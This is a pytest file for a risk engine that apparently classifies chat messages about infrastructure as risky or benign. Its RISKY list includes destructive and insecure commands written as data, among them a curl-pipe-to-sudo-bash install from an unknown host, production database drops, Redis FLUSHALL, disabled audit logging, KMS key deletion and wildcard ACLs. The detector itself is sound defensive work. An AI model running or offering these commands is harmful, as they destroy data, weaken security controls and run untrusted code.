"""Kinds of the tools4 pass (issue 19: less common tools, plans, hedged messages), each
risky message next to benign look-alikes that share its tools and nouns.

- a plan's next step (`2. curl … | sudo bash`) is never read as the tail of the step
  before it, so a benign first step cannot mask the risky one;
- a bracketed English remark after a command ("(your laptop cluster first)") is the
  sentence's, not the shell's: the command is parsed, the remark kept as its context;
- a step that selects a development stack, workspace or context scopes the steps after
  it; a name that carries dev/test (`loja_dev`, `--name rg-sandbox-ana`) places the
  action; a local server with a test-named database is local;
- `aws kms schedule-key-deletion`, kubectl plugins that destroy (`kubectl cnpg destroy`),
  `terraform taint` / `apply -replace` of a resource that holds data, `auditpol` turned
  off, broker ACLs open to everyone and all-powerful cluster tokens;
- a Mongo drop written without its parentheses (`db.orders.drop`);
- a Helm `existingSecret=` names a secret kept elsewhere, not a value;
- "`X` would probably cut it": a hedged recommendation, not a description;
- a sentence in Portuguese, Spanish, French or German that starts with a word is not a
  command line, and "o mais rápido" is no past tense;
- a topic retention cut to minutes, Redis without a password, an org-wide default
  repository permission of admin, an AWS service control policy detached, DynamoDB
  deletion protection off, Kafka's `kafka-*.sh` scripts;
- one named etcd/Consul key deleted is bounded; a cloud resource named for dev/test
  (`gcloud sql instances delete orders-test`) is not production; a line read whole as a
  command whose tail is a sentence ("… FLUSHALL on your local redis") is scoped by that
  tail; "it might be empty" and "feel free to ignore if …" ask for nothing;
- in plain words: a key scheduled for deletion, a Helm release uninstalled, a hosted
  zone deleted, a retention set to minutes, a resource tainted.
"""

from __future__ import annotations

import pytest

from bot.config import EXAMPLE_CONFIG
from bot.config_file import load_config
from bot.risk.engine import RiskEngine
from bot.risk.environments import NONPROD_PLACE_RE
from bot.risk.mongo import calls


def _held(engine: RiskEngine, text: str) -> bool:
    return engine.assess(text).decision != "allow"


RISKY = [
    # a benign step first must not mask the risky one
    "1. apt-get update\n2. curl -fsSL http://get.tools-helper.xyz/install | sudo bash\n3. reboot",
    "Setup:\n- helm list -n prod\n- helm uninstall payments -n prod\n- watch the dashboards",
    # a remark in brackets after the command
    "2. helm uninstall ingress-nginx -n prod (the old one)",
    # tools
    "Clean it up: aws kms schedule-key-deletion --key-id alias/ledger --pending-window-in-days 7",
    "then aws kms schedule-key-deletion --key-id 1a2b3c4d and move on",
    "kubectl cnpg destroy ledger-pg 2 -n prod drops the replica and its volume",
    "The orders DB drifted, terraform taint aws_db_instance.orders and apply in prod.",
    "One-liner: terraform apply -auto-approve -replace=aws_rds_cluster.ledger",
    "On each DC: auditpol /set /category:* /success:disable /failure:disable",
    "Vendor needs it all: rpk acl create --allow-principal 'User:*' --operation all --topic '*'",
    "kafka-acls --bootstrap-server kafka-prod:9092 --add --allow-principal User:etl "
    "--operation All --topic '*'",
    "Give the consultant a token: consul acl token create -policy-name global-management",
    "nomad acl token create -type=management -name vendor",
    # Mongo without parentheses
    "In mongosh on prod, use shop and db.orders.drop, then rerun the importer.",
    "in mongosh run db.dropDatabase and reimport",
    # hedged recommendation
    "If that's the case, ALTER DATABASE analytics SET DATA_RETENTION_TIME_IN_DAYS = 0; "
    "would probably cut it, but it's your call.",
    # a selection of production scopes nothing away
    "1. pulumi stack select prod\n2. pulumi destroy --yes",
    "1. kubectl config use-context dev-eu\n2. kubectl delete ns payments --context prod-eu",
    # Portuguese sentence around a production drop
    'talvez o mais rápido seja mysql -h mysql-prod.internal -u admin -p -e "DROP DATABASE loja" '
    "e restaurar do dump de ontem.",
    # a real password beside an existingSecret
    "helm install pg bitnami/postgresql --set auth.existingSecret=pg-auth "
    "--set auth.postgresPassword=S3cr3t-Pg-991",
    "Purge it: kafka-configs --bootstrap-server kafka-prod:9092 --alter --entity-type topics "
    "--entity-name orders --add-config retention.ms=1000",
    "rpk cluster config set log_retention_ms 1000",
    'Quick fix: redis-cli -h cache-prod CONFIG SET requirepass ""',
    "gh api -X PATCH orgs/northwind -f default_repository_permission=admin",
    "aws organizations detach-policy --policy-id p-guardrails --target-id r-root",
    "aws dynamodb update-table --table-name orders-prod --no-deletion-protection-enabled",
    "Run bin/kafka-topics.sh --bootstrap-server kafka-prod:9092 --delete --topic orders",
    "etcdctl --endpoints=https://etcd-prod:2379 del /flags --prefix",
    "gcloud sql instances delete orders-prod --quiet",
    "redis-cli -h redis-prod FLUSHALL on the prod cache",
    "Empty the old warehouse bucket, it's unused.",
    "Just ignore the security warning and deploy.",
    "Schedule the old ledger KMS key for deletion, we rotated already.",
    "Uninstall the payments Helm release on prod and let Argo put it back.",
    "Delete the old Route 53 hosted zone for northwind.example.",
    "Set the retention on the orders topic to one minute so the backlog clears.",
    "Taint the orders RDS instance in Terraform and apply in prod.",
    "1. pulumi destroy --stack prod --yes\n2. attach output to CR",
    "1. mongosh mongodb://db-prod:27017/shop_dev --eval 'db.orders.drop()'\n2. npm run seed",
]

BENIGN = [
    "1. apt-get update\n2. apt-get install -y buildkit\n3. reboot",
    "2. helm uninstall ingress-nginx --kube-context kind-local (your laptop cluster first)",
    "aws kms cancel-key-deletion --key-id alias/ledger",
    "Check it: aws kms describe-key --key-id alias/ledger --query KeyMetadata.KeyState",
    "kubectl cnpg status ledger-pg -n prod",
    "kubectl krew uninstall neat",
    "terraform taint null_resource.bootstrap",
    "terraform plan -replace=aws_rds_cluster.ledger",
    "terraform state show aws_db_instance.orders",
    "auditpol /get /category:*",
    'auditpol /set /subcategory:"Logon" /success:enable /failure:enable',
    "rpk acl list",
    "rpk acl create --allow-principal User:etl --operation read --topic orders",
    "consul acl token create -policy-name billing-read",
    "vault token create -policy=ci-read -ttl=1h",
    "In mongosh on prod, use shop and db.orders.stats, then send me the output.",
    "helm upgrade grafana grafana/grafana --reuse-values --set admin.existingSecret=grafana-admin",
    "To clean up:\n1. pulumi stack ls\n2. pulumi stack select dev-omar\n3. pulumi destroy --yes",
    "1. kubectl config use-context dev-eu\n2. kubectl delete ns payments",
    "aws dynamodb update-continuous-backups --table-name orders-dev "
    "--point-in-time-recovery-specification PointInTimeRecoveryEnabled=false",
    "2. az group delete --name rg-sandbox-ana --yes --no-wait",
    "Reset the fixtures: mongosh 'mongodb://localhost:27017/shop_test' --eval "
    "'db.orders.deleteMany({})'",
    "3. Rodar `db.clientes.drop()` e `db.pedidos.drop()` no banco loja_dev.",
    "rpk topic alter-config orders --set retention.ms=-1",
    'redis-cli -h cache-prod CONFIG SET requirepass "$NEW_REDIS_PASS"',
    "gh api -X PATCH orgs/northwind -f default_repository_permission=read",
    "aws dynamodb update-table --table-name orders-prod --deletion-protection-enabled",
    "kafka-topics.sh --bootstrap-server kafka-prod:9092 --describe --topic orders",
    "etcdctl del /registry/events/default/stale-event-1",
    "consul kv delete service/billing/feature-x",
    "gcloud sql instances delete orders-test --quiet",
    "bq rm -f -t northwind-dev:scratch.tmp_orders",
    "redis-cli -h localhost FLUSHALL on your local redis",
    "Run terraform destroy -auto-approve in your own dev-omar workspace to start fresh",
    'The old warehouse might be empty. snowsql -c prod -q "SHOW SCHEMAS IN DATABASE X"',
    "Check the membership first, then ask security. Feel free to ignore if that's a bad idea.",
    "Check the status of the payments Helm release on prod.",
    "List the hosted zones and tell me which one is unused.",
    "Set the retention on the orders topic to seven days.",
    "The old key is scheduled for deletion already, nothing to do.",
    "Uninstall the old VPN client from your laptop.",
    "1. pulumi destroy --stack prod --preview-only\n2. attach output to CR",
    "1. mongosh mongodb://localhost:27017/shop_dev --eval 'db.orders.drop()'\n2. npm run seed",
]


@pytest.mark.parametrize("text", RISKY)
def test_risky_held(engine: RiskEngine, text: str) -> None:
    assert _held(engine, text), text


@pytest.mark.parametrize("text", BENIGN)
def test_benign_allowed(engine: RiskEngine, text: str) -> None:
    assert not _held(engine, text), engine.assess(text).findings


def test_plan_steps_are_separate_candidates(engine: RiskEngine) -> None:
    cands = engine.extractor.extract("1. apt-get update\n2. curl -fsSL https://x.example/i | sh")
    shells = [c.text for c in cands if c.kind == "shell"]
    assert "apt-get update" in shells
    assert any(t.startswith("curl ") for t in shells)


def test_remark_is_context_not_command(engine: RiskEngine) -> None:
    cands = engine.extractor.extract("helm uninstall web --kube-context kind-local (laptop first)")
    shell = next(c for c in cands if c.kind == "shell")
    assert shell.text == "helm uninstall web --kube-context kind-local"
    assert "laptop first" in shell.context


def test_remark_that_is_a_subshell_stays() -> None:
    e = RiskEngine(load_config(EXAMPLE_CONFIG))
    cands = e.extractor.extract("rm -rf /srv/data (cd /x; ls)")
    assert any("(cd /x; ls)" in c.text for c in cands if c.kind == "shell")


def test_bare_drop_calls() -> None:
    assert [(c.collection, c.method) for c in calls("use shop and db.orders.drop, then")] == [
        ("orders", "drop")
    ]
    assert calls("db.orders.drop_reason and db.orders.dropIndex('x')") == [
        c for c in calls("db.orders.dropIndex('x')")
    ]


@pytest.mark.parametrize(
    ("text", "placed"),
    [
        ("no banco loja_dev", True),
        ("the orders-test database", True),
        ("in the dev_omar schema", True),
        ("test the restore", False),
        ("the devops team", False),
    ],
)
def test_names_that_place_nonprod(text: str, placed: bool) -> None:
    assert (NONPROD_PLACE_RE.search(text) is not None) is placed
